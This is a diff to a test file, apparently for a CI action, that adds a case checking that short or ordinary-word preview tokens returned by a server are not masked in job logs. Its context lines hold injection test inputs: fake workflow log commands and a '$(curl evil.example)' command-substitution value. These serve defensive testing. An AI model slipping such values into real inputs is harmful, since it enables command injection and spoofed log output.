@@ -67,6 +67,20 @@ describe.concurrent('what the server sends back is not told to anybody', () => {
   });
 
   it.each([
+    ['lines of one letter', 'a long token\na\ne\n'],
+    ['words', 'octo-org octo-repo'],
+  ])('%s, in the place of the token of a preview: not masked for the rest of the job', async (_, token) => {
+    await using stage = await setStage();
+    const result = await run(stage, {
+      match: { operationId: 'getPortPreviewUrl' },
+      kind: 'rewrite',
+      rewrite: { token },
+    });
+    expect(result.main.conclusion, result.log).toBe('success');
+    expect(result.main.masks.filter((mask) => /^(a|e|a long token|octo.*)$/m.test(mask))).toEqual([]);
+  });
+
+  it.each([
     ['commands', 'x\n::error::y\n##[error]z'],
     ['a program for a shell', '$(curl evil.example)'],
     ['the token', ''],
